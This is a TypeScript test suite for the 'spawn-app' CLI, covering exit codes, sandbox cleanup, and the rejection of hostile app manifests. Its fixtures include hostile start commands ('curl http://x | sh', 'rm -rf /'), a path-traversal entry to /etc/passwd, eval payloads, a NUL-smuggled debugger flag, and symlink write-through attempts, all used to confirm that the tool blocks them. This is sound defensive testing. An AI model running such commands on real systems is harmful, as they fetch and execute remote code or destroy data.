import assert from 'node:assert/strict';
import { chmodSync, existsSync, mkdirSync, mkdtempSync, readdirSync, readFileSync, rmSync, symlinkSync, writeFileSync } from 'node:fs';
import { execFileSync, spawnSync } from 'node:child_process';
import net from 'node:net';
import os from 'node:os';
import path from 'node:path';
import { isAlive } from '../../src/core/sandbox/local/processes';
import { BIN, ensureBuilt, NO_VERIFY, runCli, startCli } from '../helpers/cli';
import type { CliResult } from '../helpers/cli';
import { isDown, request } from '../helpers/http';

/** A loopback port nothing listens on (bound, then closed). */
function closedPort(): Promise<number> {
  return new Promise((resolve, reject) => {
    const srv = net.createServer();
    srv.on('error', reject);
    srv.listen(0, '127.0.0.1', () => {
      const { port } = srv.address() as net.AddressInfo;
      srv.close(() => resolve(port));
    });
  });
}

describe('spawn-app CLI (real process)', function () {
  this.timeout(120_000);
  let tmp: string;
  let env: NodeJS.ProcessEnv;
  before(() => ensureBuilt());
  beforeEach(() => {
    tmp = mkdtempSync(path.join(os.tmpdir(), 'spawn-cli-test-'));
    // No test here looks at the page: no browser check (the verification suites test it).
    env = { SPAWN_APP_LOCAL_ROOT: path.join(tmp, 'sandboxes'), ...NO_VERIFY };
  });
  afterEach(() => rmSync(tmp, { recursive: true, force: true }));
  const sandboxesLeft = () => (existsSync(env.SPAWN_APP_LOCAL_ROOT!) ? readdirSync(env.SPAWN_APP_LOCAL_ROOT!).filter((n) => n.startsWith('local-')).length : 0);

  it('usage errors exit 2 with one clear sentence, no stack trace', async () => {
    for (const args of [['frobnicate'], ['run'], ['run', 'x', '--type', 'desktop'], ['run', 'x', '--bogus'], ['generate', 'x'], ['destroy'], ['run', 'a', 'b'], ['run', '   ']]) {
      const r = await runCli(args, env);
      assert.equal(r.code, 2, `${args.join(' ')}: ${r.stderr}`);
      assert.match(r.stderr, /^Error: .+/);
      assert.doesNotMatch(r.stderr, /\n\s+at /, 'no stack trace');
    }
    const none = await runCli([], env);
    assert.equal(none.code, 2);
    assert.match(none.stderr, /Usage:/);
  });

  it('an option of another command is one sentence and exit 2 (arguments are declared per command)', async () => {
    const r = await runCli(['list', '--out', 'x'], env);
    assert.equal(r.code, 2);
    assert.equal(r.stderr, 'Error: list takes no --out option (generate takes it). Run "spawn-app --help" for usage.\n');
    assert.equal(r.stdout, '');
  });

  it('--help and --version exit 0', async () => {
    assert.match((await runCli(['--help'], env)).stdout, /spawn-app run "<prompt>"/);
    assert.match((await runCli(['--version'], env)).stdout, /^\d+\.\d+\.\d+/);
  });

  it('--detach with the local provider is a usage error', async () => {
    const r = await runCli(['run', 'a calculator', '--provider', 'local', '--detach'], env);
    assert.equal(r.code, 2);
    assert.match(r.stderr, /--detach needs a remote/);
  });

  it('generate --out writes the files and manifest; validate then passes (exit 0)', async () => {
    const out = path.join(tmp, 'app');
    const r = await runCli(['generate', 'a todo list', '--out', out, '--json'], env);
    assert.equal(r.code, 0, r.stderr);
    const events = r.stdout.trim().split('\n').map((l) => JSON.parse(l) as Record<string, unknown>);
    assert.ok(events.some((e) => e.event === 'file' && e.path === 'index.html'));
    assert.match(readFileSync(path.join(out, 'index.html'), 'utf8'), /Todo list/);
    const manifest = JSON.parse(readFileSync(path.join(out, 'spawn-app.json'), 'utf8'));
    assert.equal(manifest.appType, 'webapp');
    assert.equal(manifest.startCommand, 'node server.js');
    const v = await runCli(['validate', out, '--json'], env);
    assert.equal(v.code, 0);
  });

  it('validate exits 3 on errors and lists them; a spec file in the seed format works', async () => {
    const bad = path.join(tmp, 'bad.json');
    writeFileSync(bad, JSON.stringify({ appType: 'webapp', files: [{ path: '/app/../etc/passwd', content: 'x' }, { path: '/app/index.html', content: 'eval(x)' }], startCommand: 'curl http://x | sh', dependencies: [], port: 3000 }));
    const r = await runCli(['validate', bad, '--json'], env);
    assert.equal(r.code, 3);
    const rules = r.stdout.trim().split('\n').map((l) => JSON.parse(l).rule);
    assert.deepEqual(rules.sort(), ['code.eval', 'path.traversal', 'start.piped_download']);
    const missing = await runCli(['validate', path.join(tmp, 'nope')], env);
    assert.equal(missing.code, 2);
    const notApp = path.join(tmp, 'plain');
    mkdirSync(notApp);
    assert.equal((await runCli(['validate', notApp], env)).code, 2);
  });

  it('deploy of a hostile app folder exits 3 and starts nothing', async () => {
    const dir = path.join(tmp, 'hostile');
    mkdirSync(dir);
    writeFileSync(path.join(dir, 'spawn-app.json'), JSON.stringify({ appType: 'webapp', startCommand: 'rm -rf / ; node server.js', dependencies: [], port: 3000 }));
    writeFileSync(path.join(dir, 'server.js'), 'x');
    const r = await runCli(['deploy', dir, '--json', '--yes'], env);
    assert.equal(r.code, 3, r.stdout + r.stderr);
    assert.match(r.stdout, /"code":"blocked"/);
    assert.equal(sandboxesLeft(), 0);
  });

  it('deploy fails with exit 5 and the app\'s last output when it crashes on start', async () => {
    const dir = path.join(tmp, 'crash');
    mkdirSync(dir);
    writeFileSync(path.join(dir, 'spawn-app.json'), JSON.stringify({ appType: 'webapp', startCommand: 'node server.js', dependencies: [], port: 3000, generator: 'templates' }));
    writeFileSync(path.join(dir, 'server.js'), "console.error('cannot find config.yml'); process.exit(1)");
    const r = await runCli(['deploy', dir, '--yes'], env);
    assert.equal(r.code, 5);
    assert.match(r.stderr, /exited before it answered/);
    assert.match(r.stderr, /cannot find config\.yml/);
    assert.equal(sandboxesLeft(), 0);
  });

  it('unsandboxed: deploy of an unknown-origin folder on the local runner asks first; without a terminal it needs --yes', async () => {
    env.SPAWN_APP_SANDBOX = 'off';
    const out = path.join(tmp, 'app');
    assert.equal((await runCli(['generate', 'a calculator', '--out', out], env)).code, 0);
    const manifestPath = path.join(out, 'spawn-app.json');
    const m = JSON.parse(readFileSync(manifestPath, 'utf8'));
    delete m.generator;
    writeFileSync(manifestPath, JSON.stringify(m));
    const r = await runCli(['deploy', out], env);
    assert.equal(r.code, 2);
    assert.match(r.stderr, /unsandboxed.*--yes/);
  });

  it('a folder whose manifest says "generator": "templates" (or "user") still asks: data never grants trust', async () => {
    const out = path.join(tmp, 'app');
    assert.equal((await runCli(['generate', 'a calculator', '--out', out], env)).code, 0);
    const manifestPath = path.join(out, 'spawn-app.json');
    for (const generator of ['templates', 'user']) {
      const m = JSON.parse(readFileSync(manifestPath, 'utf8'));
      writeFileSync(manifestPath, JSON.stringify({ ...m, generator }));
      // The runner without bubblewrap: the case in which the question protects anything.
      const r = await runCli(['deploy', out, '--provider', 'local'], { ...env, SPAWN_APP_SANDBOX: 'off' });
      assert.equal(r.code, 2, `${generator}: ${r.stderr}`);
      const lines = r.stderr.trim().split('\n');
      assert.equal(lines.length, 2, r.stderr);
      assert.match(lines[0]!, /^• local runner: not sandboxed: /);
      assert.match(lines[1]!, /^Error: This code was not generated from a built-in template just now \(it was read from a folder, restored or edited\), and the local runner would run it unsandboxed .*Pass --yes/);
      assert.equal(sandboxesLeft(), 0, 'nothing started');
    }
  });

  for (const [type, check] of [
    ['webapp', async (url: string) => assert.match((await request(url)).body, /<h1>Calculator<\/h1>/)],
    ['script', async (url: string) => assert.match((await request(url + '/report.html')).body, /Visits report/)],
    ['api', async (url: string) => {
      const r = await request(url + '/api/notes');
      assert.equal(r.status, 200);
      assert.ok(Array.isArray(JSON.parse(r.body)));
    }],
  ] as const) {
    it(`run "a calculator" --type ${type} --json: ready, the URL answers, SIGINT stops everything`, async () => {
      const cli = startCli(['run', 'a calculator', '--type', type, '--json'], env);
      const ready = await cli.waitFor((e) => e.event === 'ready');
      const url = String(ready.url);
      assert.equal(ready.provider, 'local');
      assert.equal((await request(url)).status, 200);
      await check(url);
      const record = JSON.parse(readFileSync(path.join(env.SPAWN_APP_LOCAL_ROOT!, String(ready.sandboxId), 'sandbox.json'), 'utf8'));
      const appPid = record.processes[0].pid as number;
      assert.ok(isAlive(appPid));
      // `list` from another process sees it.
      const list = await runCli(['list', '--json'], env);
      assert.equal(JSON.parse(list.stdout.trim()).id, ready.sandboxId);
      cli.child.kill('SIGINT');
      const res = await cli.done;
      assert.equal(res.code, 0, res.stderr);
      assert.ok(await isDown(url));
      assert.ok(!isAlive(appPid), 'the app process is gone');
      assert.equal(sandboxesLeft(), 0);
    });
  }

  it('unsandboxed: SIGKILL of run leaves an orphan that list shows and destroy --all stops', async () => {
    // (Sandboxed, nothing outlives its owner: see localSandbox.test.ts.)
    env.SPAWN_APP_SANDBOX = 'off';
    const cli = startCli(['run', 'a counter', '--json'], env);
    const ready = await cli.waitFor((e) => e.event === 'ready');
    cli.child.kill('SIGKILL');
    await cli.done;
    assert.equal((await request(String(ready.url))).status, 200, 'the app outlives its killed owner');
    const list = await runCli(['list'], env);
    assert.match(list.stdout, /orphan/);
    const d = await runCli(['destroy', '--all'], env);
    assert.equal(d.code, 0);
    assert.match(d.stderr, /Destroyed 1 sandbox\b/);
    assert.ok(await isDown(String(ready.url)));
    assert.equal(sandboxesLeft(), 0);
    assert.equal((await runCli(['destroy', 'local-nope'], env)).code, 5);
  });

  it('E2B unreachable: list and destroy --all still show and stop the local apps, name E2B in one sentence, and exit 5 after', async () => {
    const closed = await closedPort();
    const e2bDown = { E2B_API_KEY: 'e2b_test', E2B_API_URL: `http://127.0.0.1:${closed}`, E2B_SANDBOX_URL: `http://127.0.0.1:${closed}`, E2B_DOMAIN: `127.0.0.1:${closed}` };
    const cli = startCli(['run', 'a counter', '--json', '--provider', 'local'], env);
    try {
      await listAndDestroy(cli, e2bDown, closed);
    } finally {
      if (cli.child.exitCode === null && cli.child.signalCode === null) cli.child.kill('SIGINT');
    }
  });

  async function listAndDestroy(cli: ReturnType<typeof startCli>, e2bDown: NodeJS.ProcessEnv, closed: number): Promise<void> {
    const ready = await cli.waitFor((e) => e.event === 'ready');
    const id = String(ready.sandboxId);

    const list = await runCli(['list'], { ...env, ...e2bDown });
    assert.equal(list.code, 5, list.stdout + list.stderr);
    assert.match(list.stdout, new RegExp(`^${id}  local  `, 'm'));
    assert.match(list.stderr.trim(), new RegExp(`^Error: Could not reach E2B at http://127\\.0\\.0\\.1:${closed} \\(.+\\); its sandboxes are not listed\\.$`));

    const json = await runCli(['list', '--json'], { ...env, ...e2bDown });
    assert.equal(json.code, 5, json.stdout + json.stderr);
    const events = json.stdout.trim().split('\n').map((l) => JSON.parse(l) as Record<string, unknown>);
    assert.ok(events.some((e) => e.event === 'sandbox' && e.id === id), json.stdout);
    assert.equal(events.at(-1)!.event, 'error');
    assert.equal(events.at(-1)!.code, 'deploy.network');

    const d = await runCli(['destroy', '--all'], { ...env, ...e2bDown });
    assert.equal(d.code, 5, d.stdout + d.stderr);
    const lines = d.stderr.trim().split('\n');
    assert.equal(lines[0], 'Destroyed 1 sandbox and its data.');
    assert.match(lines[1]!, /^Error: Could not reach E2B at .*; its sandboxes were not destroyed\.$/);
    assert.ok(await isDown(String(ready.url)));
    const run = await cli.done;
    assert.equal(run.code, 5, 'the run whose sandbox was destroyed says so');
    assert.match(run.stdout.trim().split('\n').at(-1)!, new RegExp(`"message":"Sandbox ${id} was destroyed by another process`));
    assert.equal(sandboxesLeft(), 0);
  }

  it('SIGINT during deploy exits 130 and leaves nothing', async () => {
    const dir = path.join(tmp, 'slow');
    mkdirSync(dir);
    writeFileSync(path.join(dir, 'spawn-app.json'), JSON.stringify({ appType: 'webapp', startCommand: 'node server.js', dependencies: [], port: 3000, generator: 'templates' }));
    writeFileSync(path.join(dir, 'server.js'), "setTimeout(() => require('http').createServer((q, s) => s.end('x')).listen(process.env.PORT), 20000)");
    const cli = startCli(['deploy', dir, '--json', '--yes'], env);
    await cli.waitFor((e) => e.event === 'phase' && e.phase === 'health' && e.status === 'started');
    cli.child.kill('SIGINT');
    const res = await cli.done;
    assert.equal(res.code, 130);
    assert.equal(sandboxesLeft(), 0);
  });

  describe('bad input: one sentence and the documented exit code', () => {
    /** The error is one line (the last; `generate` prints its progress before it), without a stack. */
    const oneLine = (r: CliResult, code: number, re: RegExp, opts: { after?: boolean } = {}) => {
      assert.equal(r.code, code, r.stdout + r.stderr);
      const lines = r.stderr.trim().split('\n');
      if (!opts.after) assert.equal(lines.length, 1, r.stderr);
      assert.equal(lines.filter((l) => l.startsWith('Error:')).length, 1, r.stderr);
      assert.match(lines.at(-1)!, re);
      assert.doesNotMatch(r.stderr, /\n\s+at |TypeError|ERR_/, 'no stack, no Node error');
    };
    const appFolder = (manifest: Record<string, unknown> = {}) => {
      const dir = path.join(tmp, 'app');
      mkdirSync(dir, { recursive: true });
      writeFileSync(path.join(dir, 'spawn-app.json'), JSON.stringify({ appType: 'webapp', startCommand: 'node server.js', dependencies: [], port: 3000, ...manifest }));
      writeFileSync(path.join(dir, 'server.js'), "require('http').createServer((q, s) => s.end('x')).listen(process.env.PORT)");
      return dir;
    };

    it('a NUL in the start command is a validation error: exit 3, and nothing starts', async () => {
      const dir = appFolder({ startCommand: 'node server.js\u0000--inspect=0.0.0.0' });
      const v = await runCli(['validate', dir, '--json'], env);
      assert.equal(v.code, 3, v.stdout + v.stderr);
      assert.ok(v.stdout.split('\n').some((l) => l.includes('"rule":"start.control"')), v.stdout);
      const d = await runCli(['deploy', dir, '--provider', 'local', '--yes'], env);
      assert.equal(d.code, 3, d.stdout + d.stderr);
      assert.match(d.stderr, /^Error: Deploy blocked: validation found 1 error\.$/m);
      assert.doesNotMatch(d.stderr, /\n\s+at |ERR_INVALID_ARG/);
      assert.equal(sandboxesLeft(), 0);
    });

    it('a 200 KB start command is a validation error (exit 3), never "Unexpected error: spawn E2BIG" or a hang', async () => {
      const dir = appFolder({ startCommand: `node server.js # ${'x'.repeat(200 * 1024)}` });
      for (const extra of [{}, { SPAWN_APP_SANDBOX: 'off' }]) {
        const d = await runCli(['deploy', dir, '--provider', 'local', '--yes', '--json'], { ...env, ...extra });
        assert.equal(d.code, 3, d.stdout.slice(0, 2000) + d.stderr);
        assert.ok(d.stdout.includes('"rule":"limits.start_command"'), d.stdout.slice(0, 2000));
        assert.doesNotMatch(d.stdout, /E2BIG|Unexpected error/);
      }
      assert.equal(sandboxesLeft(), 0);
    });

    it('a FIFO named spawn-app.json: exit 2 at once (no hang), for validate, deploy and refine', async () => {
      const dir = appFolder();
      rmSync(path.join(dir, 'spawn-app.json'));
      execFileSync('mkfifo', [path.join(dir, 'spawn-app.json')]);
      for (const args of [['validate', dir], ['deploy', dir, '--yes'], ['refine', dir, 'make it blue']]) {
        oneLine(await runCli(args, env), 2, /^Error: .*spawn-app\.json is not a regular file \(a FIFO, socket or device\); Spawn App reads only regular files\.$/);
      }
    });

    it('a folder named spawn-app.json, a 600 MB file and a binary file: exit 2, one sentence each', async () => {
      const dir = appFolder();
      rmSync(path.join(dir, 'spawn-app.json'));
      mkdirSync(path.join(dir, 'spawn-app.json'));
      oneLine(await runCli(['validate', dir], env), 2, /^Error: .*spawn-app\.json is a folder, not a file\.$/);
      rmSync(dir, { recursive: true });
      appFolder();
      execFileSync('truncate', ['-s', '600M', path.join(dir, 'video.mp4')]);
      oneLine(await runCli(['validate', dir], env), 2, /^Error: .*video\.mp4 is larger than 10 MB, the most Spawn App reads\.$/);
      rmSync(path.join(dir, 'video.mp4'));
      writeFileSync(path.join(dir, 'logo.png'), Buffer.from([0x89, 0x50, 0x4e, 0x47, 0x0d, 0x0a, 0x1a, 0x0a, 0, 0, 0, 0x0d, 0x49, 0x48, 0x44, 0x52]));
      oneLine(await runCli(['deploy', dir, '--yes'], env), 2, /^Error: .*logo\.png is a binary file \(not UTF-8 text\)/);
    });

    it('a file holding a NUL byte is binary: a folder is refused (exit 2), a spec file is blocked by validation (exit 3)', async () => {
      const dir = appFolder();
      writeFileSync(path.join(dir, 'server.js'), "require('http').createServer((q, s) => s.end('x')).listen(process.env.PORT)\0\neval(q.url)");
      for (const args of [['validate', dir], ['deploy', dir, '--yes']]) {
        oneLine(await runCli(args, env), 2, /^Error: .*server\.js is a binary file \(it holds a NUL byte\); Spawn App apps hold text files only, so move it out of the app folder\.$/);
      }
      const specFile = path.join(tmp, 'spec.json');
      writeFileSync(specFile, JSON.stringify({ appType: 'webapp', startCommand: 'node server.js', dependencies: [], port: 3000, files: [{ path: 'server.js', content: 'ok()\0\neval(x)' }] }));
      const v = await runCli(['validate', specFile, '--json'], env);
      assert.equal(v.code, 3, v.stdout + v.stderr);
      const binary = v.stdout.trim().split('\n').map((l) => JSON.parse(l) as Record<string, unknown>).find((e) => e.rule === 'file.binary');
      assert.equal(binary?.message, 'server.js is a binary file (it holds a NUL byte); Spawn App apps hold text files only, so it cannot be deployed or saved.');
      const d = await runCli(['deploy', specFile, '--provider', 'local', '--yes'], env);
      assert.equal(d.code, 3, d.stdout + d.stderr);
      assert.equal(sandboxesLeft(), 0);
    });

    it('an unreadable file: exit 2, "cannot be read (permission denied)"', () => {
      const dir = appFolder();
      writeFileSync(path.join(dir, 'secret.txt'), 'x');
      chmodSync(path.join(dir, 'secret.txt'), 0o000);
      // root reads anything: run the CLI as nobody then (the folders on the way made traversable for it).
      const asRoot = process.getuid?.() === 0;
      if (asRoot) {
        chmodSync(tmp, 0o755);
        mkdirSync(path.join(tmp, 'shared'), { mode: 0o1777 });
        chmodSync(path.join(tmp, 'shared'), 0o1777);
      }
      const r = spawnSync(process.execPath, [BIN, 'validate', dir], {
        encoding: 'utf8',
        env: { ...process.env, ...env, ...(asRoot ? { SPAWN_APP_LOCAL_ROOT: path.join(tmp, 'shared', 'sandboxes'), HOME: path.join(tmp, 'shared') } : {}) },
        ...(asRoot ? { uid: 65534, gid: 65534 } : {}),
      });
      oneLine({ code: r.status, stdout: r.stdout, stderr: r.stderr }, 2, /^Error: .*secret\.txt cannot be read \(permission denied\)\.$/);
    });

    it('a JSON error never quotes the file', async () => {
      const dir = appFolder();
      writeFileSync(path.join(dir, 'spawn-app.json'), '{"appType": "webapp", "token": "sk-ant-SECRET-123" oops');
      const r = await runCli(['validate', dir], env);
      oneLine(r, 2, /^Error: .*spawn-app\.json is not valid JSON: expected ',' or '\}' after property value\.$/);
      assert.doesNotMatch(r.stderr, /SECRET|oops|appType/);
    });

    it('generate --out and refine never write through a symlinked spawn-app.json: one sentence, the target untouched', async () => {
      const out = path.join(tmp, 'out');
      mkdirSync(out);
      const victim = path.join(tmp, 'victim.txt');
      writeFileSync(victim, 'precious');
      symlinkSync(victim, path.join(out, 'spawn-app.json'));
      oneLine(await runCli(['generate', 'a calculator', '--out', out], env), 3, /^Error: Nothing was written: spawn-app\.json in .* is a symbolic link, and Spawn App never writes through links\.$/, { after: true });
      assert.equal(readFileSync(victim, 'utf8'), 'precious');
      assert.deepEqual(readdirSync(out), ['spawn-app.json']);
      const dangling = path.join(tmp, 'out2');
      mkdirSync(dangling);
      symlinkSync(path.join(tmp, 'created-elsewhere.html'), path.join(dangling, 'index.html'));
      oneLine(await runCli(['generate', 'a calculator', '--out', dangling], env), 3, /^Error: Nothing was written: index\.html in .* is a symbolic link/, { after: true });
      assert.equal(existsSync(path.join(tmp, 'created-elsewhere.html')), false);
      const app = appFolder();
      rmSync(path.join(app, 'spawn-app.json'));
      writeFileSync(victim, JSON.stringify({ appType: 'webapp', startCommand: 'node server.js' }));
      symlinkSync(victim, path.join(app, 'spawn-app.json'));
      oneLine(await runCli(['refine', app, 'make it blue'], { ...env, ANTHROPIC_API_KEY: 'x', ANTHROPIC_BASE_URL: 'http://127.0.0.1:9' }), 2, /^Error: .*spawn-app\.json is a symbolic link; Spawn App reads only regular files\.$/);
    });
  });
});
